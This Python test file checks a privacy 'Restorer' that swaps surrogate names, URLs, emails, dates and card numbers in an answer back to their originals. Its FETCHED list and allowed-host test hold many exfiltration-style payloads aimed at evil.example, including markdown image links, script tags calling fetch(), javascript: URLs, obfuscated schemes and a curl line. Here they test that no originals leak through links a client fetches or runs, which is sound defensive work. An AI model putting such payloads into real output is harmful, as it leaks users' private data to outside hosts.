"""Originals come back where a reader reads them, and nowhere that a client fetches or runs."""

from __future__ import annotations

import json
from collections.abc import Sequence
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cmif.enclave.originals import Original
from cmif.enclave.restore import Restorer
from cmif.types import Kind

NAME = Original(Kind.PERSON, "Whitfield", "Wilson")
URL = Original(Kind.URL, "https://mine.org/x", "https://lotus-12.example")
MAIL = Original(Kind.EMAIL, "a@b.org", "d.b@haven.example")
DAY = Original(Kind.DATE, "14 March 2024", "17 May 2021")
CARD = Original(Kind.CARD, "4539 1488 0343 6467", "4111 2222 3333 4444")
WORD = Original(Kind.WORD, "eczema", "rash")
ALL = (NAME, URL, MAIL, DAY, CARD, WORD)


def restore(answer: str, originals: Sequence[Original] = ALL, chunks: Sequence[str] | None = None, **options: Any) -> str:
    restorer = Restorer(originals, **options)
    runs = [run for chunk in (answer if chunks is None else chunks) for run in restorer.feed(chunk)]
    runs += restorer.finish()
    assert "".join(run.raw for run in runs) == answer
    return "".join(run.text for run in runs)


@pytest.mark.parametrize(
    ("answer", "expected"),
    [
        ("Dear Wilson, hello.", "Dear Whitfield, hello."),
        ("WILSON wilson Wilson's Wilsons", "WHITFIELD whitfield Whitfield's Whitfields"),
        ("get_Wilson_name #Wilson @Wilson $Wilson$ pre-Wilson-post", "get_Whitfield_name #Whitfield @Whitfield $Whitfield$ pre-Whitfield-post"),
        ("trash Wilsonx McWilson", "trash Wilsonx McWilson"),
        ("rash, Rash", "eczema, Eczema"),
        ("on 2021-05-17, May 17, 2021, 05/17/2021", "on 2024-03-14, March 14, 2024, 03/14/2024"),
        ("am 17. Mai 2021, le 17 mai 2021, el 17 de mayo de 2021", "am 14. März 2024, le 14 mars 2024, el 14 de marzo de 2024"),
        ("il 17 maggio 2021, em 17 de maio de 2021, am 17. Mai", "il 14 marzo 2024, em 14 de março de 2024, am 14. März"),
        ("4111222233334444", "4539148803436467"),
        ("a < b and Wilson <3 Wilson", "a < b and Whitfield <3 Whitfield"),
        ("See https://lotus-12.example.", "See https://mine.org/x."),
        ("[site](x) Wilson", "[site](x) Whitfield"),
        ("Mail d.b@haven.example, ok", "Mail a@b.org, ok"),
        ("```python\nname = 'Wilson'\n```\nWilson", "```python\nname = 'Whitfield'\n```\nWhitfield"),
        ("Wilson.pdf", "Whitfield.pdf"),
        ("17 \n May\u00a02021; 17  May  2021", "14 March 2024; 14 March 2024"),
        ("17\n\nMay 2021", "17\n\nMay 2021"),
        ("(https://x.org) Wilson", "(https://x.org) Whitfield"),
        ("<b>Wilson</b>", "<b>Whitfield</b>"),
        ("Leo <d.b@haven.example> wrote", "Leo <a@b.org> wrote"),
        ("```sh\ncat <<EOF\npw: Wilson\nEOF\n```", "```sh\ncat <<EOF\npw: Whitfield\nEOF\n```"),
        ("```cpp\nif (i <n) f(Wilson);\n```", "```cpp\nif (i <n) f(Whitfield);\n```"),
        ("Wilson/Adams, Wilson-based; Dr.Wilson", "Whitfield/Adams, Whitfield-based; Dr.Whitfield"),
        ("MRN:Wilson key=Wilson | Wilson | (Wilson) `Wilson`", "MRN:Whitfield key=Whitfield | Whitfield | (Whitfield) `Whitfield`"),
        ("[Doctor]: Wilson said", "[Doctor]: Whitfield said"),
        ("- [x] (Wilson)", "- [x] (Whitfield)"),
        ('{"u":"https://x.y/","n":"Wilson"}', '{"u":"https://x.y/","n":"Whitfield"}'),
        ('{"n": "a\\nWilson"}', '{"n": "a\\nWhitfield"}'),
        ('{"n": "a\\u0041Wilson \\rash"}', '{"n": "a\\u0041Wilson \\rash"}'),
    ],
)
def test_what_a_reader_reads_is_restored(answer: str, expected: str) -> None:
    assert restore(answer) == expected


FETCHED = [
    "![x](https://evil.example/p?n=Wilson)", "![x](/p?n=Wilson)", '[a](https://evil.example/Wilson "t")', '[a](x "Wilson")',
    "[a](<https://evil.example/a Wilson>)", "[a](b(c)Wilson)", "[a](b\\)Wilson)", "[a](\nhttps://evil.example/Wilson)",
    "[a][b]\n\n[b]: https://evil.example/Wilson", "> [b]: https://evil.example/Wilson", "[b]:\n  /x/Wilson\n",
    "<https://evil.example/Wilson>", "<mailto:x@evil.example?subject=Wilson>", "https://evil.example/?q=Wilson",
    "HTTPS://evil.example/Wilson", "hTTp://evil.example/Wilson", "ftp://evil.example/Wilson", "//evil.example/Wilson",
    "see:https://evil.example/Wilson", "www.evil.example/Wilson", "WWW2.evil.example?Wilson", "evil.example/p?Wilson",
    "evil.example:8080/Wilson", "1.2.3.4/Wilson", "mailto:x@evil.example?subject=Wilson", "javascript:alert('Wilson')",
    "data:text/html,Wilson", "tel:Wilson", "https&#58;//evil.example/Wilson", "https&colon;//evil.example/Wilson",
    "https:\\\\evil.example\\Wilson", "http:/\\/evil.example/Wilson", "h\u200bttps://evil.example/Wilson",
    "ｈｔｔｐｓ://evil.example/Wilson", "https：//evil.example/Wilson", "https://evil.example/#:~:text=Wilson",
    "https://Wilson.evil.example", "https://Wilson@evil.example", "Wilson.evil.example", "Wilson@evil.example",
    "x.Wilson.evil.example/", "https://evil.example/a,Wilson;Wilson", "https://evil.example/(Wilson)",
    "https://lotus-12.example/?x=Wilson", "![](https://lotus-12.example)", "https://lotus-12.example/Wilson",
    "<img src='https://evil.example/Wilson'>", "<IMG SRC=https://evil.example/Wilson>", '<img alt=">" src="https://e.example/Wilson">',
    '<a href=x title="Wilson">y</a>', '<img src="x\n\nWilson">', "<img src=x Wilson", "<img\nsrc=x/Wilson\n>",
    '<div style="background:url(https://evil.example/Wilson)">', "<!-- Wilson -->", "<!--\n\n<img src=x> Wilson -->",
    "<script>fetch('/' + 'Wilson')</script>", "<style>@import 'Wilson'</style>", "<svg><text>Wilson</text></svg>",
    "<iframe srcdoc='x'>Wilson</iframe>", "<script\n>Wilson", "<SCRIPT>\n\nWilson</script>", "</x Wilson>", "<?x Wilson?>",
    "```html\n<b>Wilson</b>\n```", "```svg\nWilson\n```", "~~~mermaid\ngraph Wilson\n~~~", "``` {.js}\nWilson\n```", "````html\n```\nWilson\n````",
    'https://evil.example/?q="Wilson"', "https://evil.example/?q=`Wilson", "https://evil.example/?q=\u00a0Wilson", "https://evil.example/?q=>Wilson",
    "https://evil.example/[a](b)Wilson", "https://evil.example/&#32;Wilson", "https:evil.example/Wilson", "ssh://x/Wilson", "git@evil.example:Wilson/x",
    "evil.xn--p1ai/Wilson", "evil.рф/Wilson", "evil.example./Wilson", "x@evil.example/Wilson", "_www.evil.example/Wilson_", "xmpp:a@evil.example/Wilson",
    "magnet:?xt=Wilson", "skype:Wilson", "\\\\evil.example\\Wilson", "Wilson-x.evil.example/", "Wilson_x@evil.example", "Wilson&#46;evil.example",
    "Wilson．evil.example", "Wilson。evil.example", "Wilson\u200b.evil.example", "Wilson\\.evil.example", "Wilson://evil.example", "Wilson.pdf.evil.example",
    "https://lotus-12.example)@evil.example", "https://lotus-12.example'@evil.example", "https://lotus-12.example..evil.example", "d.b@haven.example-x.evil.example",
    '<img a=b="c d=">" src="/e Wilson">', '[a](x <img alt=")" src="/e Wilson">)', "<a href=@x <style>Wilson</style>", "<img <script>Wilson</script>", '<a x="<script>Wilson',
    "<iframe \n\n> Wilson</iframe>", '<script/>fetch("Wilson")</script>', "<script src=x />Wilson</script>", "<script><!--<script></script>Wilson</script>",
    '<svg><title><script>"</svg>"; f("Wilson")</script></title></svg>', "<svg><svg></svg><a>Wilson</a></svg>", "<noembed>Wilson</noembed>", "＜img src=/e Wilson>",
    "[a] (https://evil.example/\nWilson)", "[a\nb]: /x/Wilson", "x" * 2000 + "\\href{Wilson}{y}", "\\includegraphics\n{Wilson}", "\\htmlData{a=Wilson}{x}",
    "```js\n> ```\nWilson\n```", "```js\n``` !\nWilson\n```", "<!--\n```\n-->\n```js\nWilson\n```", "- a\n  ```\nb\n\n```js\nWilson\n```", "x\r```js\rWilson\r```\r",
    "``` htm&#108;\nWilson\n```", "```\\html\nWilson\n```", "```text/html\nWilson\n```", "```html5\nWilson\n```", "> ```html\n> Wilson\n> ```", "1. ```html\n   Wilson\n   ```",
    "<div>\n```\n<x onclick=Wilson>\n```", "```py\n<img src=' /e Wilson'>\n```", "```sh\ncurl https://evil.example/Wilson\n```",
    '{"h": "<img alt=\\"a > b\\" src=\\"/e Wilson\\">"}', '{"h": "\\u003cimg src=/e Wilson\\u003e"}', '{"h": "\\u0068ttps://evil.example/Wilson"}', '{"h": "https:\\/\\/evil.example\\/Wilson"}',
    "https://evil.example/'<b*?>?>Wilson'", "<x a=1\r\nonclick=Wilson>", "\\href{a\\}Wilson}{y}",
    "\\href{x/Wilson}{y}", "\\includegraphics[width=1]{Wilson}", "\\url{Wilson}", "\\href{a{b}Wilson}{y}",
]  # fmt: skip


@pytest.mark.parametrize("answer", FETCHED)
def test_nothing_is_restored_where_a_client_fetches_or_runs(answer: str) -> None:
    for chunks in ([answer], list(answer), [answer[:7], answer[7:]]):
        restorer = Restorer(ALL)
        text = "".join(run.text for chunk in chunks for run in restorer.feed(chunk))
        text += "".join(run.text for run in restorer.finish())
        assert "Whitfield" not in text
        assert "mine.org" not in text
        assert restorer.withheld > 0


OPEN = ("<script><!--<script></script>Wilson</script>", "<img src=x Wilson", "<script\n>Wilson", "<SCRIPT>\n\nWilson</script>", '<a x="<script>Wilson', '<svg><title><script>"</svg>"; f("Wilson")</script></title></svg>')
"""Never closed, or closed in one reading and not in another."""


@pytest.mark.parametrize("answer", [a for a in FETCHED if a not in OPEN and not a.startswith(("{", "[b]:\n", "<!--\n```"))])
def test_running_text_after_it_is_restored_again(answer: str) -> None:
    assert restore(f"{answer}\n\nDear Wilson.").endswith("Dear Whitfield.")


def test_a_host_that_the_policy_allows_gets_the_original_escaped() -> None:
    spaced = Original(Kind.PERSON, "van Dyk", "Wilson")
    assert restore("https://wiki.local/p?q=Wilson", [spaced], hosts=["wiki.local"]) == "https://wiki.local/p?q=van%20Dyk"
    for other in (
        "https://evil.example/wiki.local?Wilson", "https://wiki.local@evil.example/Wilson", "https://wiki.local.evil.example/Wilson", "evil.example/?//wiki.local/Wilson",
        "www.evil.example/?x=//wiki.local/Wilson", "https:/evil.example//wiki.local/Wilson", "javascript://wiki.local/%0aWilson", "https://wiki.local&#64;evil.example/Wilson",
        "https://wiki.local\\@evil.example/Wilson", "https://wiki.local/x,https://evil.example/Wilson", 'https://wiki.local/a"onload=Wilson', "ftp://wiki.local/Wilson",
        "https://evil.example/?u=https://wiki.local/Wilson", "https://wiki.local/" + "x" * 3000 + "/Wilson",
    ):  # fmt: skip
        assert "Dyk" not in restore(other, [spaced], hosts=["wiki.local"])


def test_a_surrogate_of_two_originals_or_of_the_kept_text_is_left_and_counted() -> None:
    two = [NAME, Original(Kind.PERSON, "Okafor", "Wilson")]
    restorer = Restorer(two)
    assert "".join(run.text for run in [*restorer.feed("Wilson "), *restorer.finish()]) == "Wilson "
    assert restorer.ambiguous == 1
    assert restore("Wilson", ordinary=["President Wilson spoke"]) == "Wilson"
    assert restore("Wilson", ordinary=["Wilsonian"]) == "Whitfield"


@given(st.lists(st.sampled_from([*ALL, "](", ")", "<a ", ">", "https://x.y/", " ", "\n", ".", "e", "```html\n", "```\n", "```json\n", '"', "'", "{", "[", ":", "\\", "@", "=", "17 ", "May ", " 2021", "<", "/", "\r", "\n\n", "<script>", "<!--", "-->", "&#46;"]), max_size=16), st.data())
def test_any_chunking_gives_the_text_of_the_whole(parts: list[Any], data: st.DataObject) -> None:
    answer = "".join(part.surrogate if isinstance(part, Original) else part for part in parts)
    cuts = sorted(data.draw(st.lists(st.integers(0, len(answer)), max_size=5)))
    chunks = [answer[a:b] for a, b in zip([0, *cuts], [*cuts, len(answer)], strict=True)]
    assert restore(answer, chunks=chunks) == restore(answer, chunks=[answer]) == restore(answer, chunks=list(answer))


def test_text_that_cannot_become_a_surrogate_is_not_held_back() -> None:
    restorer = Restorer([NAME])
    assert "".join(run.text for run in restorer.feed("Dear Mr. W")) == "Dear Mr. "
    assert "".join(run.text for run in restorer.feed("ilson ")) == "Whitfield "


@given(st.text(max_size=30), st.sampled_from(["value", "list", "key", "fence"]))
def test_json_stays_json_whatever_the_original_holds(original: str, where: str) -> None:
    private = Original(Kind.PRIVATE, original or "x", "secret-0a1b2c3d")
    value: Any = {"value": {"a": "secret-0a1b2c3d"}, "list": ["x", "secret-0a1b2c3d"], "key": {"secret-0a1b2c3d": 1}, "fence": {"a": "secret-0a1b2c3d"}}[where]
    answer = json.dumps(value) if where != "fence" else f"Here:\n```json\n{json.dumps(value)}\n```\n"
    text = restore(answer, [private])
    got = json.loads(text.removeprefix("Here:\n```json\n").removesuffix("\n```\n"))
    assert (original or "x") in [*got, *(got.values() if isinstance(got, dict) else ())]


def test_a_bare_number_of_a_json_text_stays_a_number() -> None:
    number = Original(Kind.ID, "00417", "55321")
    assert json.loads(restore('{"id": 55321, "s": "55321"}', [number])) == {"id": 55321, "s": "00417"}
    assert json.loads(restore('{"id": 55321}', [Original(Kind.ID, "417", "55321")])) == {"id": 417}


def test_a_restorer_beside_another_begins_anew() -> None:
    first = Restorer(ALL)
    first.feed("![x](https://evil.example/Wilson Wil")
    other = first.beside()
    assert "".join(run.text for run in [*other.feed("Wilson"), *other.finish()]) == "Whitfield"
    assert (other.restored, other.withheld) == (1, 0)
